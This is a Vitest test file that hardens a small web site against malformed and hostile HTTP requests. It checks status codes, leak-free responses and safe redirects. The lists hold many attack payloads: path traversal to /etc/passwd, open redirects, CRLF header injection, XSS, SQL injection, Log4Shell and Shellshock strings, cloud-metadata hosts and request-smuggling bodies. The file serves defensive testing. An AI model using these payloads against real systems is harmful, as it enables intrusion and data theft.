import { afterAll, beforeAll, expect, test } from 'vitest';
import { exchange, parseResponses, type RawResponse } from '#http/testing/exchange.ts';
import { createSmallSite, type Served, serve } from '#http/testing/small-site.ts';

const OVERSIZED = 'a'.repeat(20_000);

/** A request target and the status of its response; node:http itself refuses what no target may hold. */
const targets: ReadonlyArray<readonly [target: string, status: number]> = [
  // Traversal, in every way to write dots and slashes.
  ['/../../../etc/passwd', 400],
  ['/blog/../../etc/passwd', 400],
  ['/assets/../../../etc/passwd', 400],
  ['/assets/./app-1a2b3c.js', 400],
  ['/blog/..', 400],
  ['/blog/.', 400],
  ['/..', 400],
  ['/%2e%2e/%2e%2e/etc/passwd', 400],
  ['/%2E%2E/%2E%2E/etc/passwd', 400],
  ['/.%2e/.%2e/etc/passwd', 400],
  ['/%2e./%2e./etc/passwd', 400],
  ['/..%2f..%2f..%2fetc%2fpasswd', 400],
  ['/..%2F..%2F..%2Fetc%2Fpasswd', 400],
  ['/%2e%2e%2f%2e%2e%2fetc%2fpasswd', 400],
  ['/assets/%2e%2e%2f%2e%2e%2fpackage.json', 400],
  ['/%2fetc%2fpasswd', 400],
  ['/..\\..\\..\\etc\\passwd', 400],
  ['/..%5c..%5c..%5cetc%5cpasswd', 400],
  ['/..%5C..%5C..%5Cetc%5Cpasswd', 400],
  ['/assets\\..\\..\\package.json', 400],
  ['/%5c%5celsewhere.example%5cshare', 400],
  ['/..%c0%af..%c0%afetc/passwd', 400],
  ['/..%e0%80%afetc/passwd', 400],
  ['/..%f0%80%80%afetc/passwd', 400],
  ['/..%c1%9c..%c1%9cetc/passwd', 400],
  ['/%c0%ae%c0%ae/etc/passwd', 400],
  ['/%e0%80%ae%e0%80%ae/etc/passwd', 400],
  ['/..%u2215etc/passwd', 400],
  ['/%uff0e%uff0e/etc/passwd', 400],
  ['/%252e%252e/%252e%252e/etc/passwd', 404],
  ['/%252e%252e%252fetc%252fpasswd', 404],
  ['/%25252e%25252e/etc/passwd', 404],
  ['/..%255c..%255cetc', 404],
  ['/%ef%bc%8e%ef%bc%8e/etc/passwd', 404],
  ['/..%ef%bc%8fetc/passwd', 404],
  ['/..%e2%88%95etc/passwd', 404],
  ['/..;/..;/etc/passwd', 404],
  ['/blog;/../etc', 400],
  ['/.../.../etc/passwd', 404],
  ['/....//....//etc/passwd', 308],
  ['/etc/passwd', 404],
  ['/proc/self/environ', 404],
  ['/C:/Windows/win.ini', 404],
  ['/C:%5cWindows%5cwin.ini', 400],
  ['/~root', 404],
  ['/.env', 404],
  ['/.git/config', 404],
  ['/.vite/manifest.json', 404],
  ['/package.json', 404],
  ['/node_modules/react/package.json', 404],
  ['/server/index.js', 404],
  ['/assets/', 308],
  ['/assets', 404],
  ['/assets/app-1a2b3c.js.map', 404],
  ['/assets/app-1a2b3c.js/', 308],
  ['/assets/app-1a2b3c.js/x', 404],
  ['/assets/app-1a2b3c.js%00.png', 400],
  ['/ASSETS/APP-1A2B3C.JS', 404],
  // Open redirects.
  ['//elsewhere.example', 308],
  ['//elsewhere.example/', 308],
  ['///elsewhere.example/', 308],
  ['////elsewhere.example', 308],
  ['//elsewhere.example/..', 400],
  ['//elsewhere.example/%2e%2e/', 400],
  ['/\\elsewhere.example/', 400],
  ['/\\/elsewhere.example/', 400],
  ['/%5celsewhere.example/', 400],
  ['/%2felsewhere.example/', 400],
  ['/%09/elsewhere.example/', 400],
  ['/.elsewhere.example/', 308],
  ['/@elsewhere.example/', 308],
  ['/http://elsewhere.example/', 308],
  ['/https:elsewhere.example/', 308],
  ['/javascript:alert(1)/', 308],
  ['/blog/?next=//elsewhere.example', 308],
  ['/blog/?q=%0d%0aLocation:%20//elsewhere.example', 308],
  // Header injection through what is sent back in a header.
  ['/blog/%0d%0aX-Injected:%201', 400],
  ['/blog/%0aX-Injected:%201', 400],
  ['/blog/%0dX-Injected:%201', 400],
  ['/%0d%0aX-Injected:%201/', 400],
  ['/blog/%E5%98%8D%E5%98%8AX-Injected:1/', 308],
  ['/blog/%c4%8d%c4%8aX-Injected:1/', 308],
  ['/blog/%25%30%64%25%30%61X-Injected:1/', 308],
  ['/blog/%e2%80%a8X-Injected:1/', 308],
  ['/blog/%c2%85X-Injected:1/', 400],
  ['/blog?q=%0d%0aX-Injected:%201', 200],
  ['/blog?page=%0d%0aX-Injected:%201', 200],
  ['/blog?%0d%0aX-Injected:%201', 200],
  // Malformed percent escapes and UTF-8, null bytes and other control characters.
  ['/%', 400],
  ['/%%', 400],
  ['/%2', 400],
  ['/%zz', 400],
  ['/%-1', 400],
  ['/% 2e', 400],
  ['/%u0000', 400],
  ['/blog%', 400],
  ['/blog/%f', 400],
  ['/%80', 400],
  ['/%ff', 400],
  ['/%fe%ff', 400],
  ['/%c0%80', 400],
  ['/%e6%97', 400],
  ['/%e6%97/%a5', 400],
  ['/%ed%a0%80', 400],
  ['/%ed%a0%bd%ed%b8%80', 400],
  ['/%f4%90%80%80', 400],
  ['/%f8%88%80%80%80', 400],
  ['/%ef%bf%be', 400],
  ['/%ef%bf%bf', 400],
  ['/%ef%bb%bfblog', 404],
  ['/%e2%80%ae/golb', 404],
  ['/blog%e2%80%8b', 404],
  ['/blog%00', 400],
  ['/%00', 400],
  ['/blog/a-post%00.html', 400],
  ['/blog%01', 400],
  ['/blog%08', 400],
  ['/blog%1b[31m', 400],
  ['/blog%7f', 400],
  ['/blog\xff', 400],
  ['/blog/\xe6\x97\xa5', 400],
  ['/blog?q=%', 200],
  ['/blog?q=%zz&page=%', 200],
  ['/blog?q=%ff%fe', 200],
  ['/blog?q=%00', 200],
  ['/blog?%ff=%ff', 200],
  // Queries that look for a program behind the page.
  ["/blog?page=1'%20OR%20'1'='1", 200],
  ['/blog?page=-1', 200],
  ['/blog?page=1e309', 200],
  ['/blog?page=__proto__', 200],
  ['/blog?__proto__[x]=1&constructor.prototype.x=1', 200],
  ['/blog?page[]=1&page[0]=1', 200],
  ['/blog?page=1&page=2&page=3', 200],
  ['/blog/search?q=<script>alert(1)</script>', 200],
  ['/blog/search?q=%3Cscript%3Ealert(1)%3C/script%3E', 200],
  ['/blog/search?q=$%7Bjndi:ldap://elsewhere.example/a%7D', 200],
  ['/blog/search?q=((((((((((a+)+)+)+)+)+)+)+)+)+', 200],
  ['/blog/search?q=%7B%7B7*7%7D%7D', 200],
  ['/blog?_routes=root', 200],
  ['/blog?index', 200],
  ['/blog.data?_routes=%00', 404],
  ['/__manifest?p=/blog&version=1', 404],
  ['/__proto__', 404],
  ['/constructor', 404],
  ['/toString', 404],
  ['/hasOwnProperty', 404],
  ['/blog/__proto__', 404],
  ['/blog/<script>alert(1)</script>', 404],
  ['/blog/%3Cscript%3Ealert(1)%3C%2Fscript%3E', 400],
  [`/blog/\${7*7}`, 404],
  ['/blog/a-post?/../../x', 200],
  ['/blog#/../x', 400],
  ['/blog#x', 404],
  // Oversized targets: past 16 KB the head itself is too large, of which node:http does not say what part.
  [`/${'a'.repeat(2048)}`, 414],
  [`/${'a'.repeat(10_000)}`, 414],
  [`/${'%61'.repeat(3000)}`, 414],
  [`/${'../'.repeat(2000)}`, 414],
  [`/${'/'.repeat(2000)}`, 308],
  [`/${'a/'.repeat(1000)}`, 308],
  [`/blog?q=${'a'.repeat(1900)}`, 200],
  [`/blog?q=${'a'.repeat(10_000)}`, 414],
  [`/blog?${'a&'.repeat(1000)}`, 200],
  [`/blog?${'page=1&'.repeat(290)}`, 200],
  [`http://localhost/${'a'.repeat(2048)}`, 414],
  [`http://elsewhere.example/${'a'.repeat(2048)}`, 421],
  [`/${OVERSIZED}`, 431],
  [`/blog?q=${OVERSIZED}`, 431],
  // Targets that are no path (RFC 9112 section 3.2).
  ['*', 400],
  ['blog', 400],
  ['?q=a', 400],
  ['#blog', 400],
  ['http://localhost/blog', 200],
  ['http://localhost:3000/blog', 200],
  ['https://localhost/blog', 200],
  ['http://elsewhere.example/blog', 421],
  ['http://elsewhere.example', 421],
  ['HTTP://localhost/blog', 200],
  ['ftp://localhost/blog', 400],
  ['file:///etc/passwd', 400],
  ['gopher://localhost:11211/_stats', 400],
  ['http://[::1]/blog', 200],
  ['http://localhost@elsewhere.example/blog', 400],
  ['localhost:3000', 400],
  ['elsewhere.example:443', 400],
  ['javascript:alert(1)', 400],
];

/** Header lines added to a request for `/blog`, and the status of its response. */
const headerLines: ReadonlyArray<readonly [lines: string, status: number]> = [
  // What proxies and frameworks read: none may change the page that everybody gets.
  ['X-Forwarded-Host: elsewhere.example', 200],
  ['X-Forwarded-Host: elsewhere.example\r\nX-Forwarded-Proto: https', 200],
  ['X-Forwarded-Proto: javascript', 200],
  ['X-Forwarded-Scheme: http', 200],
  ['X-Forwarded-Port: 1337', 200],
  ['X-Forwarded-Port: abc/../x', 200],
  ['X-Forwarded-Prefix: /elsewhere', 200],
  ['X-Forwarded-Path: /elsewhere', 200],
  ['X-Forwarded-Server: elsewhere.example', 200],
  ['X-Forwarded-For: 127.0.0.1', 200],
  ["X-Forwarded-For: 127.0.0.1' OR 1=1", 200],
  ['X-Forwarded: for=127.0.0.1', 200],
  ['Forwarded: host=elsewhere.example;proto=https;for=127.0.0.1', 200],
  ['X-Host: elsewhere.example', 200],
  ['X-HTTP-Host-Override: elsewhere.example', 200],
  ['X-Original-Host: elsewhere.example', 200],
  ['X-Original-URL: /nowhere', 200],
  ['X-Rewrite-URL: /nowhere', 200],
  ['X-Original-URI: /nowhere', 200],
  ['X-Request-URI: /nowhere', 200],
  ['X-Override-URL: /nowhere', 200],
  ['X-Proxy-URL: http://elsewhere.example', 200],
  ['X-Real-IP: 127.0.0.1', 200],
  ['True-Client-IP: 127.0.0.1', 200],
  ['CF-Connecting-IP: 127.0.0.1', 200],
  ['X-React-Router-Prerender-Data: W10=', 200],
  ['X-React-Router-Prerender-Data: %5B%7B%22a%22%3A1%7D%5D', 200],
  ['X-React-Router-SPA-Mode: yes', 200],
  ['X-React-Router-Revalidate: routes/blog', 200],
  ['X-React-Router-Request: yes', 200],
  ['X-Remix-Revalidate: root', 200],
  ['X-Middleware-Subrequest: middleware', 200],
  ['X-Invoke-Path: /nowhere', 200],
  ['Rsc: 1\r\nNext-Router-State-Tree: %5B%5D', 200],
  ['X-Nextjs-Data: 1', 200],
  ['X-HTTP-Method-Override: DELETE', 200],
  ['X-HTTP-Method: PUT', 200],
  ['X-Method-Override: POST', 200],
  ['Accept: text/x-component', 200],
  ['Accept: application/json', 200],
  [`Accept: ${'*/*,'.repeat(2000)}*/*`, 200],
  ['Accept-Language: ../../etc', 200],
  ['Accept-Charset: utf-7', 200],
  ['Origin: https://elsewhere.example', 200],
  ['Origin: null', 200],
  ['Referer: javascript:alert(1)', 200],
  ['User-Agent: () { :;}; echo X-Injected: 1', 200],
  [`User-Agent: \${jndi:ldap://elsewhere.example/a}`, 200],
  ['Cookie: mantle-ui-theme="><script>alert(1)</script>', 200],
  [`Cookie: ${'a=b; '.repeat(2000)}`, 200],
  ['Cookie: __proto__=1; constructor=2', 200],
  ['Authorization: Basic Og==', 200],
  ['Cache-Control: no-store, no-transform, only-if-cached', 200],
  ['Pragma: x-get-cache-key', 200],
  ['Range: bytes=0-', 200],
  ['Range: bytes=0-0,-1', 200],
  [`Range: bytes=${'0-,'.repeat(1300)}0-`, 200],
  ['If-Range: "x"\r\nRange: bytes=5-1', 200],
  ['If-None-Match: "', 200],
  ['If-None-Match: W/', 200],
  [`If-None-Match: ${'"a",'.repeat(2000)}"b"`, 200],
  [`If-None-Match: ${'"'.repeat(5001)}`, 200],
  ['If-Match: "nothing"', 200],
  ['If-Modified-Since: yesterday', 200],
  ['If-Modified-Since: Fri, 31 Dec 9999 23:59:59 GMT', 200],
  ['If-Unmodified-Since: Thu, 01 Jan 1970 00:00:00 GMT', 200],
  ['Accept-Encoding: ../../etc/passwd', 200],
  ['Accept-Encoding: gzip;q=nan;q=1e999, br;q=-0', 200],
  [`Accept-Encoding: ${'gzip,'.repeat(2500)}`, 200],
  ['Accept-Encoding: __proto__', 200],
  ['Accept-Encoding: \xff\xfe', 200],
  ['TE: trailers, gzip;q=0', 200],
  ['Upgrade: h2c\r\nConnection: Upgrade, HTTP2-Settings\r\nHTTP2-Settings: AAMAAABkAAQAAP__', 200],
  ['Upgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Key: AAAA\r\nSec-WebSocket-Version: 13', 200],
  ['Connection: close, Host', 200],
  ['Connection: X-Forwarded-For, Cookie', 200],
  ['Keep-Alive: timeout=999999999, max=-1', 200],
  ['Max-Forwards: 0', 200],
  ['Via: 1.1 elsewhere.example', 200],
  ['Expect: 200-ok', 417],
  ['X-A: \xe9\xff', 200],
  ['X-A:', 200],
  ['X-A:\ta\t', 200],
  ['__proto__: x', 200],
  ['constructor: x', 200],
  ['hasOwnProperty: x', 200],
  // Lines that are no header lines (RFC 9112 section 5).
  ['X-A: a\0b', 400],
  ['X-A: a\rX-B: b', 400],
  ['X-A : a', 400],
  ['X A: a', 400],
  [' X-A: a', 400],
  ['X-A: a\r\n b', 400],
  ['X-A', 400],
  [': a', 400],
  ['X-\xe9: a', 400],
  ['X-(A): a', 400],
  // A second host, and hosts that are none.
  ['Host: elsewhere.example', 400],
  ['host: localhost', 400],
  ['Host : elsewhere.example', 400],
  // Oversized and too many.
  [`X-A: ${OVERSIZED}`, 431],
  [`Cookie: ${OVERSIZED}`, 431],
  [`${OVERSIZED}: a`, 431],
  [`If-None-Match: "${OVERSIZED}"`, 431],
  [Array.from({ length: 300 }, (_, index) => `X-${index}: ${index}`).join('\r\n'), 200],
  [Array.from({ length: 3000 }, () => 'a:').join('\r\n'), 431],
  [Array.from({ length: 5000 }, (_, index) => `X-${index}: ${index}`).join('\r\n'), 431],
];

const hosts: ReadonlyArray<readonly [host: string, status: number]> = [
  ['elsewhere.example', 421],
  ['localhost.elsewhere.example', 421],
  ['localhost@elsewhere.example', 421],
  ['localhost:3000@elsewhere.example', 421],
  ['localhost#@elsewhere.example', 421],
  ['elsewhere.example#localhost', 421],
  ['localhost, elsewhere.example', 421],
  ['localhost elsewhere.example', 421],
  ['localhost/elsewhere', 421],
  ['localhost\\elsewhere.example', 421],
  ['localhost:99999999', 421],
  ['localhost:-1', 421],
  ['localhost:80:80', 421],
  ['localhost.', 421],
  ['.localhost', 421],
  ['http://localhost', 421],
  ['127.1', 421],
  ['2130706433', 421],
  ['0x7f000001', 421],
  ['0.0.0.0', 421],
  ['169.254.169.254', 421],
  ['[::]', 421],
  ['[::1', 421],
  ['[::ffff:127.0.0.1]', 421],
  ['', 421],
  ['"localhost"', 421],
  ['localhost"><script>alert(1)</script>', 421],
  ['__proto__', 421],
  ['l\xf6calhost', 421],
  ['a'.repeat(10_000), 421],
];

const methods: ReadonlyArray<readonly [method: string, status: number]> = [
  ['POST', 405],
  ['PUT', 405],
  ['PATCH', 405],
  ['DELETE', 405],
  ['OPTIONS', 405],
  ['TRACE', 405],
  ['QUERY', 405],
  ['PROPFIND', 405],
  ['PURGE', 405],
  ['SOURCE', 405],
  ['LINK', 405],
  ['MKCOL', 405],
  ['M-SEARCH', 405],
  ['get', 400],
  ['Get', 400],
  ['head', 400],
  ['GETS', 400],
  ['GE', 400],
  ['TRACK', 400],
  ['DEBUG', 400],
  ['PRI', 400],
  ['FOO', 400],
  ['__PROTO__', 400],
  ['../GET', 400],
  ['GET\t', 400],
  [' GET', 400],
  ['G\0T', 400],
  ['\xff', 400],
  ['A'.repeat(20_000), 400],
];

const PIPELINED = 'GET /nowhere HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n\r\n';

/** Whole requests, byte for byte, and the statuses of all that comes back. */
const shapes: ReadonlyArray<readonly [label: string, bytes: string, statuses: readonly number[]]> = [
  ['nothing', '', []],
  ['only line breaks', '\r\n\r\n\r\n\r\n', []],
  ['a byte', '\0', [400]],
  ['a TLS greeting', '\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03', [400]],
  ['an SSH greeting', 'SSH-2.0-OpenSSH_9.2\r\n', [400]],
  ['the preface of HTTP/2', 'PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n', [400]],
  ['a mail command', 'HELO elsewhere.example\r\n', [400]],
  ['a PROXY line', `PROXY TCP4 127.0.0.1 127.0.0.1 1 2\r\nGET /blog HTTP/1.1\r\nHost: localhost\r\n\r\n`, [400]],
  // node:http reads these as HTTP/1.1, and so they get the page that everybody gets.
  ['HTTP/0.9', 'GET /blog HTTP/0.9\r\nHost: localhost\r\n\r\n', [200]],
  ['HTTP/2.0', 'GET /blog HTTP/2.0\r\nHost: localhost\r\nConnection: close\r\n\r\n', [200]],
  ['another protocol', 'GET /blog RTSP/1.0\r\nHost: localhost\r\n\r\n', [200]],
  ['no version and so no host', 'GET /blog\r\n\r\n', [421]],
  ['HTTP/1.2', 'GET /blog HTTP/1.2\r\nHost: localhost\r\n\r\n', [400]],
  ['HTTP/9.9', 'GET /blog HTTP/9.9\r\nHost: localhost\r\n\r\n', [400]],
  ['a version of many digits', `GET /blog HTTP/1.${'1'.repeat(500)}\r\nHost: localhost\r\n\r\n`, [400]],
  ['two targets', 'GET /blog /nowhere HTTP/1.1\r\nHost: localhost\r\n\r\n', [400]],
  ['no target', 'GET HTTP/1.1\r\nHost: localhost\r\n\r\n', [400]],
  ['a tab for a space', 'GET\t/blog\tHTTP/1.1\r\nHost: localhost\r\n\r\n', [400]],
  ['bare line feeds', 'GET /blog HTTP/1.1\nHost: localhost\nConnection: close\n\n', [400]],
  ['bare carriage returns', 'GET /blog HTTP/1.1\rHost: localhost\r\r', [400]],
  ['a null byte in the target', 'GET /blog\0 HTTP/1.1\r\nHost: localhost\r\n\r\n', [400]],
  ['a request that stops in its target', 'GET /bl', [400]],
  ['a request that stops in its headers', 'GET /blog HTTP/1.1\r\nHost: local', [400]],
  ['no host', 'GET /blog HTTP/1.1\r\n\r\n', [400]],
  ['CONNECT to another site', 'CONNECT elsewhere.example:443 HTTP/1.1\r\nHost: elsewhere.example:443\r\n\r\n', []],
  ['CONNECT to a page', 'CONNECT /blog HTTP/1.1\r\nHost: localhost\r\n\r\n', []],
  ['OPTIONS of the server', 'OPTIONS * HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n\r\n', [405]],
  // Request smuggling: two ways to read where a request ends (RFC 9112 section 6.3).
  [
    'a length and chunks',
    `POST /blog HTTP/1.1\r\nHost: localhost\r\nContent-Length: 6\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n${PIPELINED}`,
    [400],
  ],
  [
    'chunks and a length',
    `POST /blog HTTP/1.1\r\nHost: localhost\r\nTransfer-Encoding: chunked\r\nContent-Length: 6\r\n\r\n0\r\n\r\n${PIPELINED}`,
    [400],
  ],
  [
    'two lengths',
    `POST /blog HTTP/1.1\r\nHost: localhost\r\nContent-Length: 0\r\nContent-Length: ${PIPELINED.length}\r\n\r\n${PIPELINED}`,
    [400],
  ],
  [
    'the same length twice',
    'POST /blog HTTP/1.1\r\nHost: localhost\r\nContent-Length: 3\r\nContent-Length: 3\r\n\r\nabc',
    [400],
  ],
  ['a list of lengths', 'POST /blog HTTP/1.1\r\nHost: localhost\r\nContent-Length: 3, 3\r\n\r\nabc', [400]],
  ['a negative length', 'POST /blog HTTP/1.1\r\nHost: localhost\r\nContent-Length: -1\r\n\r\n', [400]],
  ['a length with a sign', 'POST /blog HTTP/1.1\r\nHost: localhost\r\nContent-Length: +3\r\n\r\nabc', [400]],
  ['a hexadecimal length', 'POST /blog HTTP/1.1\r\nHost: localhost\r\nContent-Length: 0x3\r\n\r\nabc', [400]],
  ['an empty length', 'POST /blog HTTP/1.1\r\nHost: localhost\r\nContent-Length:\r\n\r\n', [400]],
  [
    'a length past 64 bits',
    `POST /blog HTTP/1.1\r\nHost: localhost\r\nContent-Length: ${'9'.repeat(30)}\r\n\r\n`,
    [400],
  ],
  [
    'two codings',
    `POST /blog HTTP/1.1\r\nHost: localhost\r\nTransfer-Encoding: chunked\r\nTransfer-Encoding: identity\r\n\r\n0\r\n\r\n${PIPELINED}`,
    [400],
  ],
  [
    'a coding that is not last',
    `POST /blog HTTP/1.1\r\nHost: localhost\r\nTransfer-Encoding: chunked, gzip\r\n\r\n0\r\n\r\n${PIPELINED}`,
    [400],
  ],
  [
    'a coding behind a space',
    `POST /blog HTTP/1.1\r\nHost: localhost\r\nTransfer-Encoding : chunked\r\n\r\n0\r\n\r\n${PIPELINED}`,
    [400],
  ],
  [
    'a coding on a folded line',
    `POST /blog HTTP/1.1\r\nHost: localhost\r\nTransfer-Encoding:\r\n chunked\r\n\r\n0\r\n\r\n${PIPELINED}`,
    [400],
  ],
  [
    'a coding behind a vertical tab',
    `POST /blog HTTP/1.1\r\nHost: localhost\r\nTransfer-Encoding: \x0bchunked\r\n\r\n0\r\n\r\n${PIPELINED}`,
    [400],
  ],
  [
    'a trailer that names a host',
    'GET /blog HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\nTransfer-Encoding: chunked\r\n\r\n0\r\nHost: elsewhere.example\r\n\r\n',
    [200],
  ],
  [
    'a body that is a request, behind GET',
    `GET /blog HTTP/1.1\r\nHost: localhost\r\nContent-Length: ${PIPELINED.length}\r\nConnection: close\r\n\r\n${PIPELINED}`,
    [200],
  ],
  [
    'a body that is a request, behind HEAD',
    `HEAD /blog HTTP/1.1\r\nHost: localhost\r\nContent-Length: ${PIPELINED.length}\r\nConnection: close\r\n\r\n${PIPELINED}`,
    [200],
  ],
  [
    'a body that is a request, behind POST',
    `POST /blog HTTP/1.1\r\nHost: localhost\r\nContent-Length: ${PIPELINED.length}\r\n\r\n${PIPELINED}${PIPELINED}`,
    [405],
  ],
  [
    'a request behind one that closes',
    `GET /blog HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n\r\n${PIPELINED}`,
    [200],
  ],
  [
    'a body of 1 MB',
    `POST /blog HTTP/1.1\r\nHost: localhost\r\nContent-Length: 1000000\r\n\r\n${'a'.repeat(1_000_000)}`,
    [405],
  ],
  [
    'a body that waits to be asked for',
    'POST /blog HTTP/1.1\r\nHost: localhost\r\nContent-Length: 3\r\nExpect: 100-continue\r\nConnection: close\r\n\r\nabc',
    [100, 405],
  ],
  [
    'a form that names another method',
    'POST /blog?_method=GET HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: 11\r\nConnection: close\r\n\r\n_method=GET',
    [405],
  ],
  [
    'a hundred requests at once',
    `${'GET /nowhere HTTP/1.1\r\nHost: localhost\r\n\r\n'.repeat(99)}${PIPELINED}`,
    Array(100).fill(404),
  ],
];

/** Requests that are answered before their bodies turn out to be broken; the refusal may come too late to be sent. */
const brokenBodies: ReadonlyArray<readonly [label: string, bytes: string]> = [
  ['a chunk that ends in its size', 'POST /blog HTTP/1.1\r\nHost: localhost\r\nTransfer-Encoding: chunked\r\n\r\nabc'],
  [
    'a chunk size past 64 bits',
    `POST /blog HTTP/1.1\r\nHost: localhost\r\nTransfer-Encoding: chunked\r\n\r\n${'f'.repeat(20)}\r\n`,
  ],
  ['a negative chunk size', 'POST /blog HTTP/1.1\r\nHost: localhost\r\nTransfer-Encoding: chunked\r\n\r\n-1\r\nabc'],
  [
    'a chunk extension of 20 KB',
    `POST /blog HTTP/1.1\r\nHost: localhost\r\nTransfer-Encoding: chunked\r\n\r\n1;${OVERSIZED}\r\na\r\n0\r\n\r\n`,
  ],
  [
    'a chunk longer than its size',
    `POST /blog HTTP/1.1\r\nHost: localhost\r\nTransfer-Encoding: chunked\r\n\r\n1\r\nabc\r\n0\r\n\r\n`,
  ],
  [
    'a bare line feed behind a chunk size',
    'POST /blog HTTP/1.1\r\nHost: localhost\r\nTransfer-Encoding: chunked\r\n\r\n1\na\r\n0\r\n\r\n',
  ],
  [
    'trailers of 20 KB',
    `POST /blog HTTP/1.1\r\nHost: localhost\r\nTransfer-Encoding: chunked\r\n\r\n0\r\nX-A: ${OVERSIZED}\r\n\r\n`,
  ],
  ['a body shorter than its length', 'POST /blog HTTP/1.1\r\nHost: localhost\r\nContent-Length: 100\r\n\r\nabc'],
  [
    'a misspelt coding',
    `POST /blog HTTP/1.1\r\nHost: localhost\r\nTransfer-Encoding: xchunked\r\n\r\n0\r\n\r\n${PIPELINED}`,
  ],
  [
    'chunks in HTTP/1.0',
    `POST /blog HTTP/1.0\r\nHost: localhost\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n${PIPELINED}`,
  ],
];

function request(target: string, { method = 'GET', host = 'localhost', lines = '' } = {}): string {
  return `${method} ${target} HTTP/1.1\r\nHost: ${host}\r\n${lines === '' ? '' : `${lines}\r\n`}Connection: close\r\n\r\n`;
}

const ANSWERED_AND_REFUSED = /^405(?: 4\d\d)?$/;

const cases: ReadonlyArray<readonly [label: string, bytes: string, statuses: RegExp]> = [
  ...targets.map(([target, status]) => [`the target ${shown(target)}`, request(target), exactly(status)] as const),
  ...headerLines.map(
    ([lines, status]) => [`the header ${shown(lines)}`, request('/blog', { lines }), exactly(status)] as const,
  ),
  ...hosts.map(([host, status]) => [`the host ${shown(host)}`, request('/blog', { host }), exactly(status)] as const),
  ...methods.map(
    ([method, status]) => [`the method ${shown(method)}`, request('/blog', { method }), exactly(status)] as const,
  ),
  ...shapes.map(([label, bytes, statuses]) => [label, bytes, exactly(...statuses)] as const),
  ...brokenBodies.map(([label, bytes]) => [label, bytes, ANSWERED_AND_REFUSED] as const),
];

function exactly(...statuses: readonly number[]): RegExp {
  return new RegExp(`^${statuses.join(' ')}$`);
}

function shown(text: string): string {
  return JSON.stringify(text.length > 60 ? `${text.slice(0, 50)}… (${text.length} bytes)` : text);
}

// A stack, a path of this machine, an error's code or the software and its version.
const LEAKS = [
  /\bat .+:\d+/,
  /node:internal|file:\/\//,
  /\.[cm]?[jt]sx?:\d+/,
  /\b(?:E[A-Z]{4,}|HPE_\w+|ERR_\w+)\b/,
  /\b\w*Error\b/,
  /^(?:server|x-powered-by):/im,
  /node\.?js|react.router/i,
];

const served: Served[] = [];
let port = 0;
let honest: Buffer;

const HONEST = request('/blog');

beforeAll(async () => {
  const server = await serve(createSmallSite());
  served.push(server);
  port = server.port;
  honest = withoutDate(await exchange(port, HONEST));
});

afterAll(() => {
  for (const { close } of served) {
    close();
  }
});

function withoutDate(bytes: Buffer): Buffer {
  return Buffer.from(bytes.toString('latin1').replace(/\r\nDate: [^\r]*/, ''), 'latin1');
}

test.for(cases)('%s', async ([, bytes, statuses]) => {
  const received = await exchange(port, bytes);
  const responses = parseResponses(received, [bytes.slice(0, bytes.indexOf(' '))]);
  const found = responses.map(({ status }) => status).join(' ');
  expect(found).toMatch(statuses);
  expect(received.toString('latin1')).not.toContain(process.version);
  expect(received.toString('latin1')).not.toContain(process.cwd());
  for (const leak of LEAKS) {
    expect(received.toString('latin1')).not.toMatch(leak);
  }
  for (const response of responses) {
    expectHarmless(response);
  }
  expect(withoutDate(await exchange(port, HONEST))).toEqual(honest);
});

function expectHarmless({ status, headers }: RawResponse): void {
  expect(status === 503 || status < 500).toBe(true);
  expect(headers.has('x-injected')).toBe(false);
  expect(headers.has('set-cookie')).toBe(false);
  // One slash, and no scheme before it: a place on this site.
  expect(headers.get('location') ?? '/').toMatch(/^\/(?![/\\])/);
}

test('there are at least two hundred cases, each of them once', () => {
  expect(cases.length).toBeGreaterThanOrEqual(200);
  expect(new Set(cases.map(([, bytes]) => bytes)).size).toBe(cases.length);
});

test('nothing of all this was an error of the server', () => {
  expect(served.flatMap(({ errors }) => errors)).toEqual([]);
});
